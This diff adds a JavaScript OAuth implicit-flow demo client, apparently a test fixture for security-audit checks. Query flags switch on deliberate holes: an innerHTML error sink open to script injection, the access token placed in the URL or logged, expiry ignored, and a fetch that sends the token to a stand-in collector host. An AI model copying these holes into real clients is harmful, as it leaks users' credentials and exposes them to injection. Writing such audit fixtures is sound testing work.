@@ -1,0 +1,95 @@
+// A correct implicit-flow client whose holes are switched on by ?holes=a,b, so that each audit
+// check is seen to fail on the hole it is about, and to pass without it (test_each_check.py).
+"use strict";
+
+const config = window.demoConfig;
+const holes = new Set((new URLSearchParams(location.search).get("holes") || "").split(","));
+const $ = (id) => document.getElementById(id);
+const here = location.origin + location.pathname + location.search;
+
+function signIn() {
+  const state = crypto.randomUUID();
+  sessionStorage.setItem("state", state);
+  location.assign(config.authorizeUrl + "?" + new URLSearchParams({
+    response_type: "token", client_id: config.clientId, redirect_uri: here, state,
+  }));
+}
+
+// True when the page is being replaced by a fresh one.
+function finishCallback() {
+  const answer = new URLSearchParams(location.hash.slice(1));
+  if (!answer.has("state")) {
+    return false;
+  }
+  const expected = sessionStorage.getItem("state");
+  sessionStorage.removeItem("state");
+  history.replaceState(null, "", here);
+  if (!expected || expected !== answer.get("state")) {
+    $("message").textContent = "That sign-in was not started here.";
+    return false;
+  }
+  if (answer.has("error")) {
+    const text = "Sign-in failed: " + (answer.get("error_description") || answer.get("error"));
+    if (holes.has("html-error")) {
+      $("message").innerHTML = text;
+    } else {
+      $("message").textContent = text;
+    }
+    if (holes.has("crash-on-error")) {
+      setTimeout(() => { throw new Error("unhandled sign-in error"); });
+    }
+    return false;
+  }
+  const token = answer.get("access_token");
+  sessionStorage.setItem("token", JSON.stringify({
+    accessToken: token, expiresAt: Date.now() + Number(answer.get("expires_in")) * 1000,
+  }));
+  location.replace(holes.has("token-in-query") ? here + "&t=" + token : here);
+  return true;
+}
+
+function validToken() {
+  const token = JSON.parse(sessionStorage.getItem("token") || "null");
+  if (token && (holes.has("ignore-expiry") || Date.now() < token.expiresAt)) {
+    return token;
+  }
+  sessionStorage.removeItem("token");
+  return null;
+}
+
+function showSignedOut() {
+  sessionStorage.removeItem("token");
+  $("signed-in").hidden = true;
+  $("sign-in").hidden = false;
+}
+
+async function showSignedIn(token) {
+  $("signed-in").hidden = false;
+  if (holes.has("log-token")) {
+    console.log("signed in with " + token.accessToken);
+  }
+  if (holes.has("token-to-third-party")) {
+    fetch("http://localhost:9/collect?t=" + token.accessToken, {mode: "no-cors"}).catch(() => {});
+  }
+  if (!holes.has("ignore-expiry")) {
+    setTimeout(showSignedOut, token.expiresAt - Date.now());
+  }
+  const answer = await fetch(config.apiBase + "/accounts", {
+    headers: {Authorization: "Bearer " + token.accessToken},
+  });
+  if (answer.status === 401 && !holes.has("keep-after-401")) {
+    showSignedOut();
+  } else if (answer.ok) {
+    $("email").textContent = (await answer.json()).email;
+  }
+}
+
+$("sign-in").addEventListener("click", signIn);
+if (!finishCallback()) {
+  const token = validToken();
+  if (token) {
+    showSignedIn(token);
+  } else {
+    $("sign-in").hidden = false;
+  }
+}
